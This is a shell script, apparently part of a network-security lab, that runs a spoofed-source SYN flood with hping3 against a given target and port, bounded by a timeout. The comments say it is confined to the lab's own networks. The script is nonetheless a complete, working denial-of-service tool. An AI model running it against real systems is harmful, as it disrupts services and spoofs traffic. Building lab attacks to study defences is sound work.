#!/bin/sh
# The lab's own attack, run on the attacker: a SYN flood at TARGET:PORT from a spoofed
# source, in the background until `flood.sh stop`. The target is always an address of the
# lab's own networks (net-attack: the victim; net-attack-nat: the NAT gateway's campus
# address). The source is an unused address of the attacker's own /24 (.100-.199), picked
# anew each run: replies to it go nowhere, so every SYN that reaches a service leaves a
# half-open connection behind, and blocking one address does not help.
#   flood.sh start TARGET PORT RATE      (RATE: packets per second)
#   flood.sh stop
set -eu
pidfile=/run/flood.pid
stop() {
  # hping3 runs in a session of its own (setsid): end the whole group.
  if [ -f "$pidfile" ]; then
    kill -- "-$(cat "$pidfile")" 2>/dev/null || true
    rm -f "$pidfile"
  fi
}
case $1 in
  start)
    target=$2 port=$3 rate=$4
    stop
    own=$(ip -4 -o addr show dev eth0 | sed -n 's|.* inet \([0-9]*\.[0-9]*\.[0-9]*\)\.[0-9]*/24 .*|\1|p' | head -n 1)
    [ -n "$own" ] || { echo "flood.sh: eth0 has no /24 address to spoof from" >&2; exit 1; }
    spoof=$own.$((100 + $(od -An -N1 -tu1 /dev/urandom) % 100))
    # timeout: a run that fails half-way cannot leave a flood running for long.
    setsid timeout 120 hping3 -q -S -p "$port" -a "$spoof" -i "u$((1000000 / rate))" "$target" </dev/null >/dev/null 2>&1 &
    echo $! > "$pidfile"
    echo "flooding $target:$port from $spoof at $rate packets/s"
    ;;
  stop) stop ;;
  *) echo "usage: flood.sh start TARGET PORT RATE | flood.sh stop" >&2; exit 2 ;;
esac
